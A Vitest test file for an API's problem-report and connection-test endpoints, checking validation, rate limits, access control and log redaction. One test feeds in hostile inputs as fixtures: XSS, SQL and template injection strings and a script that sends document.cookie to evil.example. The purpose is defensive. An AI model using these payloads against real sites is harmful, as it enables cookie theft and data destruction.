import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { problemReportListSchema, problemReportLogSchema } from '@atrium/protocol';
import { startRestServer } from '../support/restServer.ts';
import type { Member, RestServer } from '../support/restServer.ts';

const path = '/api/v1/problem-reports';
let server: RestServer;
let admin: Member;
beforeAll(async () => {
  server = await startRestServer();
  admin = await server.makeWorkspace('Acme');
});
afterAll(async () => {
  expect(server.errors).toEqual([]);
  await server.remove();
});

const send = async (body: unknown, by?: Member) => {
  const { token } = by ?? (await server.invite(admin, 'Member'));
  const { status, code } = await server.ask('POST', path, { token, body });
  return [status, code];
};
const list = async (token: string) =>
  (await server.read(problemReportListSchema, 'GET', path, { token })).reports;

describe('a problem report', () => {
  test.each([
    ['nothing at all', {}],
    ['no text', { text: ' \n\t ', log: '' }],
    ['a text of what nobody sees', { text: '\u0000\u0007\u001b', log: '' }],
    ['a text that is too long', { text: 'a'.repeat(2_001), log: '' }],
    ['a log that is no text', { text: 'a', log: ['b'] }],
    ['more than is asked for', { text: 'a', log: '', personId: 'someone-else', role: 'Admin' }],
  ])('with %s is refused with a sentence, and not kept', async (_, body) => {
    expect(await send(body)).toEqual([400, 'bad_message']);
    expect(await list(admin.token)).toEqual([]);
  });

  test('of more than 64 KB is not read', async () => {
    const [status] = await send({ text: 'a', log: 'b'.repeat(64 * 1024) });
    expect(status).toBe(413);
  });

  test('is kept as text, under the name of its sender, and the fourth of a day is refused', async () => {
    const member = await server.invite(admin, 'Member');
    const text = `<img src=x onerror=alert(1)> '; drop table problem_reports; -- {{7*7}} \u202e`;
    const log = '<script>fetch("https://evil.example/?" + document.cookie)</script>\nBearer abc.def';
    for (let sent = 0; sent < 3; sent++) expect(await send({ text, log }, member)).toEqual([204, undefined]);
    expect(await send({ text, log }, member)).toEqual([429, 'rate_limited']);

    const reports = await list(admin.token);
    expect(reports).toHaveLength(3);
    expect(reports[0]).toMatchObject({ text, by: { personId: member.account.personId } });
    const ask = { token: admin.token };
    const logPath = `${path}/${reports[0]?.reportId ?? ''}/log`;
    const answer = await server.ask('GET', logPath, ask);
    expect(problemReportLogSchema.parse(answer.json).log).toBe(
      '<script>fetch("[address] + document.cookie)</script>\n[secret]',
    );
    expect(answer.headers.get('content-type')).toContain('application/json');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    // Neither its sender nor the Admins of another Workspace read it.
    expect((await server.ask('GET', logPath, { token: member.token })).code).toBe('not_allowed');
    const other = await server.makeWorkspace('Other');
    expect((await server.ask('GET', logPath, { token: other.token })).code).toBe('not_found');
    expect(await list(other.token)).toEqual([]);
  });

  test('of one who tells of many at once is taken three times', async () => {
    const member = await server.invite(admin, 'Member');
    const before = (await list(admin.token)).length;
    const sent = await Promise.all(
      Array.from({ length: 20 }, () => send({ text: 'again', log: '' }, member)),
    );
    expect(sent.filter(([status]) => status === 204)).toHaveLength(3);
    expect((await list(admin.token)).length).toBe(before + 3);
  });
});

test('a connection test is for people with a token, five times a minute, whatever else they send', async () => {
  const test = '/api/v1/connection-tests';
  expect((await server.ask('POST', test)).code).toBe('signed_out');
  const { token } = await server.invite(admin, 'Member');
  const body = { seconds: 86_400, personId: admin.account.personId };
  const answers = await Promise.all(
    Array.from({ length: 12 }, () => server.ask('POST', test, { token, body })),
  );
  const taken = answers.filter(({ status }) => status === 200);
  expect(taken.length).toBe(5);
  for (const { json } of taken) expect(json).toMatchObject({ seconds: 60 });
  for (const { status, code } of answers)
    if (status !== 200) expect([status, code]).toEqual([429, 'rate_limited']);
});
